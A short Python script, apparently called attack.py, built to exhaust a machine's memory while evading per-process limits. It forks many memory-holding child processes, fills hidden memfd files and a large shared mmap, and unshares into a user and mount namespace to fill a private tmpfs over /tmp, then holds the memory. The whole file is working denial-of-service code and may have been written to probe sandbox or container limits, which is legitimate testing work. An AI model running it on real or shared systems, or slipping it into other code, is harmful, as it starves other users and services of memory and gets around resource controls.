"""Use up memory, in ways that no limit of a single process holds.

attack.py processes|files|shared|mounts MIB    then waits to be stopped.
"""
import ctypes
import mmap
import os
import sys
import time

way, mib = sys.argv[1], int(sys.argv[2])
page = b"x" * (1 << 20)
kept = []
if way == "processes":
    for _ in range(mib // 50):
        if os.fork() == 0:
            kept = page * 50
            time.sleep(300)
elif way == "files":
    for _ in range(mib // 50):
        file = os.memfd_create("hidden")
        for _ in range(50):
            os.write(file, page)
elif way == "shared":
    shared = mmap.mmap(-1, mib << 20)
    for _ in range(mib):
        shared.write(page)
elif way == "mounts":
    libc = ctypes.CDLL(None)
    identity = [("setgroups", "deny"), ("uid_map", "0 %d 1" % os.getuid()), ("gid_map", "0 %d 1" % os.getgid())]
    libc.unshare(0x10000000 | 0x20000)
    for name, text in identity:
        with open("/proc/self/" + name, "w") as file:
            file.write(text)
    libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
    for number in range(mib):
        with open("/tmp/%d" % number, "wb") as file:
            file.write(page)
print("used", flush=True)
time.sleep(300)
